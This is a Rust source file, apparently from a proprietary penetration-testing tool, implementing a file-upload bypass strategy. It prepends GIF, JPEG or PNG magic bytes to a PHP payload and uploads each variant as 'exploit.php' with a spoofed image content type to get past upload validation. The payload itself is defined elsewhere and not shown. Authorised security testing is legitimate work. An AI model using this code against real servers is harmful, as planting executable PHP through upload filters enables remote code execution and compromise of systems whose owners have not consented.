// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

use async_trait::async_trait;

use super::common::{php_payload, run_variants, Variant};
use super::{Strategy, StrategyMetadata, StrategyTools, TechRequirements};
use crate::analysis::HypothesisName;
use crate::context::AttackContext;
use crate::errors::TransportError;
use crate::http_client::UploadFile;
use crate::observer::BypassTechnique;
use crate::types::StrategyStatus;

/// `(magic prefix, content type)` per image format.
const SIGNATURES: &[(&[u8], &str)] = &[
    (b"GIF89a;\n", "image/gif"),
    (&[0xFF, 0xD8, 0xFF, 0xE0], "image/jpeg"),
    (&[0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A], "image/png"),
];

const METADATA: StrategyMetadata = StrategyMetadata {
    name: "magic_bytes",
    description: "Prefix the payload with image magic bytes",
    targets_hypotheses: &[
        HypothesisName::MagicByteCheck,
        HypothesisName::ContentValidation,
        HypothesisName::WhitelistFilter,
    ],
    tech_requirements: TechRequirements {
        language: None,
        version_min: None,
        version_max: None,
    },
    confidence_gain: Some(0.6),
};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct MagicBytes;

#[async_trait]
impl Strategy for MagicBytes {
    fn metadata(&self) -> &'static StrategyMetadata {
        &METADATA
    }

    async fn execute(
        &self,
        context: &mut AttackContext,
        tools: &mut StrategyTools<'_>,
    ) -> Result<StrategyStatus, TransportError> {
        let payload = php_payload(tools.payload);
        let variants = SIGNATURES
            .iter()
            .map(|(magic, content_type)| {
                let mut content = magic.to_vec();
                content.extend_from_slice(payload.as_bytes());
                Variant::new(UploadFile::new("exploit.php", content).with_content_type(*content_type))
            })
            .collect();
        run_variants(context, tools, BypassTechnique::MagicBytes, variants).await
    }
}
